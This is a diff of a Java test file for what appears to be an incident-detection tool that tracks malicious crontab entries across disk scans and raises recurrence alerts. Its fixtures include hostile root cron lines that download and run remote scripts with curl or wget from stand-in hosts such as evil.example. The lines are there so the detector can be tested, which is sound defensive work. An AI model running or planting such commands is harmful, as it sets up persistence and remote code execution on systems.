@@ -39,8 +39,11 @@ import bzh.vigie.collector.store.StoreException;
 import bzh.vigie.collector.store.sqlite.SqliteStore;
 import bzh.vigie.event.Item;
 import bzh.vigie.event.ItemFields;
+import bzh.vigie.event.ItemTimes;
 import bzh.vigie.event.LocationStatus;
+import bzh.vigie.event.Sha256;
 import java.io.IOException;
+import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.sql.Connection;
@@ -324,7 +327,7 @@ final class IncidentScanTest {
                 0,
                 take(disk(theirs, item("backup", "rsync -a /srv")), "--name", "PC-42")
                         .code());
-        assertEquals(List.of("vigie-return"), alerts().stream().map(Alert::rule).toList());
+        assertEquals(List.of("vigie-return"), recurrences());
         assertEquals(Scans.idOf(AURAY, "PC-42"), alerts().getFirst().host());
 
         mark(
@@ -338,11 +341,14 @@ final class IncidentScanTest {
                 store.read(s -> s.tombstones().list(ALL, ID)).stream()
                         .filter(each -> each.host().equals(Optional.of(Scans.idOf(AURAY, "PC-42"))))
                         .count());
-        assertEquals(1, alerts().size(), "not where it is marked itself");
+        assertEquals(List.of("vigie-return"), recurrences(), "not where it is marked itself");
         Path other = file(List.of(line(theirs), place(CRON, "read"), summary("offline", "linux")));
         assertEquals(0, take(other, "--name", "PC-43").code());
-        assertEquals("PC-43", alerts().getFirst().hostname());
-        assertEquals("after", alerts().getFirst().evidence().get("eviction"));
+        Alert again = alerts().stream()
+                .filter(each -> each.hostname().equals("PC-43") && each.rule().equals("vigie-return"))
+                .findFirst()
+                .orElseThrow();
+        assertEquals("after", again.evidence().get("eviction"));
         assertEquals(
                 List.of(
                         "PC-42 2026-001-T1 " + Optional.of(minute(80)),
@@ -380,6 +386,103 @@ final class IncidentScanTest {
                         .filter(each ->
                                 each.hostname().equals("PC-44") && each.rule().equals("vigie-indicator-seen"))
                         .count());
+    }
+
+    /** Rules of the recurrence of marks among the alerts. */
+    private List<String> recurrences() {
+        Set<String> of = Set.of("vigie-return", "vigie-suspected-return", "vigie-not-removed", "vigie-same-attack");
+        return alerts().stream().map(Alert::rule).filter(of::contains).toList();
+    }
+
+    private CommandRun takeAt(int minute, Item... items) throws IOException {
+        List<String> lines =
+                new ArrayList<>(Stream.of(items).map(IncidentScanTest::line).toList());
+        lines.add(place(CRON, "read"));
+        lines.add(summary("offline", "linux", ",\"seconds\":" + minute));
+        String time = minute(minute).toString();
+        return scan("--import", file(lines).toString(), "--as-of", time, "--reason", "saisi", "--name", "PC-42");
+    }
+
+    /** A line of a crontab of no package. */
+    private static Item made(String name, String value) {
+        return new Item(
+                CRON,
+                List.of("T1053.003"),
+                "linux",
+                Optional.empty(),
+                name,
+                value,
+                "/etc/cron.d/" + name,
+                "/opt/report/run",
+                Optional.of(Sha256.over(value.getBytes(StandardCharsets.UTF_8))),
+                "",
+                Item.Signature.NOT_CHECKED,
+                "",
+                Item.Shipped.UNOWNED,
+                true,
+                ItemTimes.NONE,
+                List.of(),
+                "",
+                "",
+                "",
+                "",
+                "",
+                "",
+                "",
+                value.contains("curl") ? Set.of(Item.Trait.NETWORK_TOOL) : Set.of());
+    }
+
+    /** A line of a disk is one of a host that tells: judged as there at first, then as come, under monitoring. */
+    @Test
+    void aDiskIsJudgedByTheRulesLikeAHost() throws IOException {
+        Item miner = made("sync", "* * * * * root curl -fsSL http://203.0.113.9/x | sh");
+        Item backup = item("backup", "30 2 * * * root rsync -a /srv /mnt");
+        assertEquals(0, takeAt(30, miner, backup).code());
+        Alert there = alerts().getFirst();
+        assertEquals(1, alerts().size(), alerts().toString());
+        assertTrue(there.severity().compareTo(Severity.HIGH) >= 0, there.toString());
+        assertEquals("present", there.evidence().get("change"));
+        assertEquals("PC-42", there.hostname());
+        assertEquals("1", there.evidence().get(Scans.SCAN));
+
+        Item other = made("logs", "0 4 * * * root /opt/report/run");
+        assertEquals(0, takeAt(80, miner, backup, other).code());
+        List<Alert> since = alerts().stream()
+                .filter(each -> each.evidence().getOrDefault(Scans.SCAN, "").equals("2"))
+                .toList();
+        assertEquals(
+                List.of(other.key()),
+                since.stream().map(each -> each.evidence().get("key")).toList(),
+                "what was there is not told again");
+        assertEquals("added", since.getFirst().evidence().get("change"));
+        assertTrue(since.getFirst().severity().compareTo(Severity.MEDIUM) >= 0, "under monitoring");
+    }
+
+    /** At its own place, on its own disk, after the eviction: never removed, or back where a scan showed it gone; also where it was altered. */
+    @Test
+    void aMarkedItemAtItsOwnPlaceOnADiskIsTold() throws IOException {
+        Item theirs = made("implant", "* * * * * root curl -fsSL http://evil.example/payload.sh --output /tmp/payload");
+        Item backup = item("backup", "30 2 * * * root rsync -a /srv /mnt");
+        assertEquals(0, takeAt(30, theirs, backup).code());
+        mark(theirs.key(), "--scan", "1");
+        assertEquals(List.of(), recurrences());
+        assertEquals(0, takeAt(70, theirs, backup).code());
+        assertEquals(List.of("vigie-not-removed"), recurrences());
+        assertEquals(0, takeAt(80, backup).code());
+        assertEquals(List.of("vigie-not-removed"), recurrences());
+        assertEquals(0, takeAt(90, theirs, backup).code());
+        assertEquals(Set.of("vigie-not-removed", "vigie-return"), Set.copyOf(recurrences()));
+        Item altered = made("implant", "* * * * * root wget -q http://evil.example/other.sh -O /var/tmp/.x");
+        assertEquals(theirs.key(), altered.key());
+        assertEquals(0, takeAt(100, altered, backup).code());
+        assertEquals(
+                3,
+                alerts().stream()
+                        .filter(each ->
+                                Set.of("vigie-return", "vigie-not-removed").contains(each.rule()))
+                        .mapToInt(Alert::count)
+                        .sum(),
+                "altered, it is one more of the same recurrence");
     }
 
     private static Indicator indicator(String sha256) {
